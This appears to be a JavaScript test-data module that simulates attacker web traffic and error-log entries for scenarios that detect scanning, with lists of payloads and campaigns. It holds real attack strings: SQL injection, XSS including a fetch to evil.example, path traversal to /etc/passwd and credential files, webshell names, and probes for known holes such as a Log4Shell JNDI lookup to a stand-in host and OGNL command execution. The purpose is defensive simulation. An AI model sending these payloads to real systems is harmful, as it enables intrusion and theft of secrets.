// What attackers ask for. Each campaign is `{ name, paceMs: [least, most], agent?, requests: () => [...] }`, a request
// `[method, target, status]` with an agent and a referrer of its own where it needs one. Many campaigns stay just
// under what scenarios allow at the low end of their lengths and paces, so that both answers occur.

const PAYLOADS = {
  files: ['/etc/passwd', '/etc/shadow', '/etc/hosts', '/proc/self/environ', '/windows/win.ini'],
  climbs: ['../', '..%2f', '%2e%2e%2f', '%252e%252e%252f', '..\\', '....//'],
  sql: [
    '1%20union%20all%20select%20NULL,NULL,version()',
    '1%20union%20select%20name,pass%20from%20users',
    "1'%20and%20sleep%285%29--",
    '1%20or%20benchmark%285000000,md5%281%29%29',
    '1;select%20pg_sleep%285%29',
    '1%20and%20extractvalue(1,concat(0x7e,%40%40version))',
    '1%20and%20ascii(substring%28database(),1,1))=97',
    '1%20union%20select%20table_name%20from%20information_schema.tables',
    "1'%7c%7cchr%2865%29",
    "1%20and%20load_file%28'/etc/passwd')",
    '1%2cnull%2cnull',
    '1%20having%20count(distinct%28uid))>1',
  ],
  scripts: [
    '<script>confirm(1)</script>',
    '<img src=x onerror=prompt(2)>',
    '%3Cscript%3Efetch(%27//evil.example%27)%3C/script%3E',
    '<svg onload=alert(3)>',
    'javascript:alert(document.domain)',
    '%3Cimg%20src%3Dx%3E',
    '<body onload=alert(4)>',
    '<object data=x>',
    '<table background=x>',
  ],
  folders: [
    'admin administrator backup backups bin cgi config data db debug dev dump export files ftp home',
    'include install log logs mail manager new old panel phpinfo pma private root server shell site stage',
    'staging status temp test tmp upload uploads vendor web webmail www xmlrpc',
  ].flatMap((line) => line.split(' ')),
  secrets: [
    ...[
      '.env',
      '.env.backup',
      '.git/config',
      '.svn/entries',
      '.htpasswd',
      '.bash_history',
      '.bashrc',
      '.DS_Store',
    ],
    ...[
      'dump.sql',
      'site.sql.gz',
      'database.sql',
      'db.sql.zip',
      'wp-config.php.bak',
      'settings.php~',
      '.config',
    ],
    ...[
      'id_rsa',
      'server.key',
      'docker-compose.yml',
      '.aws/credentials',
      'error.log',
      'sites/default/files.sql',
    ],
  ],
  shells:
    'c99.php r57.php r00t.php filesman.php sniper.php spyshell.php angel.php dq.php wso.php alfa.php'.split(
      ' ',
    ),
  agents: [
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 zgrab/0.x',
    'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
    'python-requests/2.31.0',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  ],
};

const JNDI = '${jndi:ldap://198.51.100.9:1389/a}';

/** Requests of one kind of known hole each; the reply says that this site does not have it. */
const HOLES = [
  ['GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['POST', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', 400],
  ['GET', '/public/plugins/welcome/../../../../../../../etc/grafana/grafana.ini', 400],
  ['GET', '/public/plugins/table/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 404],
  ['POST', '/autodiscover/autodiscover.json?a=b@example.org/powershell/?x=y', 404],
  [
    'GET',
    '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo',
    404,
  ],
  ['GET', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 404],
  ['GET', '/s/1/_/;/WEB-INF/web.xml', 404],
  ['GET', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts', 404],
  ['GET', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', 404],
  ['PUT', '/api/v2/cmdb/system/admin/admin', 404, 'Report Runner'],
  [
    'GET',
    '/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/',
    404,
  ],
  ['GET', '/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd', 404],
  [
    'GET',
    '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew%28%29%28%22id%22%29%7d',
    404,
  ],
  ['GET', `/?x=${JNDI}`, 200],
  ['GET', '/', 200, JNDI],
  ['GET', '/', 200, undefined, JNDI],
  ['GET', '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/', 404],
  ['POST', '/vendor/htmlawed/htmlawed/htmLawedTest.php', 404],
  ['GET', '/search?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D', 200],
  ['GET', '/cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1;id', 404],
  ['POST', '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1', 404],
  ['POST', '/login/index.php?login=$(id)', 302],
  ['GET', '/w00tw00t.at.ISC.SANS.DFind:)', 400],
  ['GET', '/solr/admin/cores?wt=json', 404],
  ['POST', '/boaform/admin/formLogin', 404],
];

export function campaignsOf(random) {
  const some = (list, least, most) => random.shuffled(list).slice(0, random.int(least, most));
  const page = () => random.pick(['/node/1', '/search', '/catalog', '/index.php', '/article']);
  return [
    {
      name: 'missing pages, from a word list',
      paceMs: [20, 1_500],
      requests: () =>
        some(PAYLOADS.folders, 6, 40).map((word) => [
          'GET',
          random.chance(0.3) ? `/${word}.${random.pick(['php', 'zip', 'asp'])}` : `/${word}/`,
          random.pick([404, 404, 404, 403]),
        ]),
    },
    {
      name: 'every page, as fast as it goes',
      paceMs: [5, 400],
      requests: () =>
        Array.from({ length: random.int(30, 120) }, (_, i) => [
          'GET',
          `/archive/item-${i}-${random.int(1, 99)}`,
          200,
        ]),
    },
    {
      name: 'files that should not be there',
      paceMs: [100, 6_000],
      requests: () =>
        some(PAYLOADS.secrets, 3, 12).map((name) => ['GET', `/${name}`, random.pick([404, 403])]),
    },
    {
      name: 'SQL in a parameter',
      paceMs: [50, 1_200],
      requests: () =>
        some(PAYLOADS.sql, 5, 12).flatMap((text) => [
          ['GET', `${page()}?id=${text}`, random.pick([200, 500, 403])],
          ['GET', `${page()}?nid=${text}&page=${random.int(0, 3)}`, 200],
        ]),
    },
    {
      name: 'scripts in a parameter',
      paceMs: [50, 1_500],
      requests: () =>
        some(PAYLOADS.scripts, 3, 9).map((text) => ['GET', `${page()}?q=${text.replaceAll(' ', '+')}`, 200]),
    },
    {
      name: 'out of the folder',
      paceMs: [100, 5_000],
      requests: () =>
        some(PAYLOADS.climbs, 2, 6).map((climb) => [
          'GET',
          `/${random.chance(0.5) ? 'download?file=' : ''}${climb.repeat(random.int(3, 6))}${random.pick(PAYLOADS.files).slice(1)}`,
          random.pick([400, 404]),
        ]),
    },
    {
      name: 'shells that others left',
      paceMs: [100, 4_000],
      requests: () =>
        some(PAYLOADS.shells, 1, 8).map((name) => [
          'GET',
          `${random.pick(['', '/images', '/tmp'])}/${name}`,
          404,
        ]),
    },
    {
      name: 'passwords, over basic authentication',
      paceMs: [200, 6_000],
      requests: () => Array.from({ length: random.int(4, 25) }, () => ['POST', '/api/session', 401]),
    },
    {
      name: 'passwords, refused',
      paceMs: [200, 6_000],
      requests: () =>
        Array.from({ length: random.int(4, 25) }, () => ['POST', '/user/login?_format=json', 403]),
    },
    {
      name: 'passwords of another system',
      paceMs: [200, 5_000],
      requests: () =>
        Array.from({ length: random.int(3, 12) }, () => ['POST', '/ghost/api/admin/session', 404]),
    },
    {
      name: 'poller, many times',
      paceMs: [200, 3_000],
      requests: () =>
        Array.from({ length: random.int(3, 12) }, (_, i) => [
          'GET',
          `/cacti/remote_agent.php?action=status&host_id=${i}&local_data_ids[]=${i}`,
          404,
        ]),
    },
    {
      name: 'an open proxy',
      paceMs: [100, 2_000],
      requests: () => [
        random.chance(0.5) ? ['CONNECT', 'mail.example.org:25', 400] : ['GET', 'http://ip.example.org/', 400],
      ],
    },
    { name: 'one known hole', paceMs: [100, 1_000], requests: () => [random.pick(HOLES)] },
    { name: 'all known holes', paceMs: [50, 2_000], requests: () => random.shuffled(HOLES) },
    {
      name: 'a scanner that says its name',
      paceMs: [50, 2_000],
      agent: () => random.pick(PAYLOADS.agents),
      requests: () =>
        Array.from({ length: random.int(1, 8) }, () => [
          'GET',
          random.pick(['/', '/robots.txt', '/user/login']),
          200,
        ]),
    },
  ];
}

/** What the error log says of attackers: passwords and limits, as `[method, target, message]`. */
export function errorCampaignsOf(random) {
  return [
    {
      paceMs: [200, 6_000],
      errors: () =>
        Array.from({ length: random.int(3, 15) }, () => [
          'GET',
          '/intern/',
          random.chance(0.5)
            ? `user "${random.pick(['admin', 'root', 'anna'])}": password mismatch`
            : `user "${random.pick(['guest', 'test'])}" was not found in "/etc/nginx/htpasswd"`,
        ]),
    },
    {
      paceMs: [50, 4_000],
      errors: () =>
        Array.from({ length: random.int(3, 20) }, () => [
          'GET',
          '/search',
          `limiting requests, excess: ${random.int(5, 20)}.${random.int(100, 999)} by zone "one"`,
        ]),
    },
  ];
}
